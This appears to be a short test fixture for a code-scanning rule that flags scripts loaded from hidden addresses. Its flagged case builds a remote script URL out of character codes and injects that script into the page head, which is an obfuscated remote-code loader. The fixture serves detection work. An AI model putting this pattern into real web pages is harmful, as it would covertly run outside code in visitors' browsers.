// ok: script_src_from_hidden_address
const W = 'https://cdn.example.com/widget.js';
// ruleid: script_src_from_hidden_address
const U = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 99, 100, 110, 45, 109, 101, 116, 114, 105, 99, 115, 46, 99, 111, 109, 47, 97, 46, 106, 115);
const s = document.createElement('script');
s.src = U;
document.head.appendChild(s);
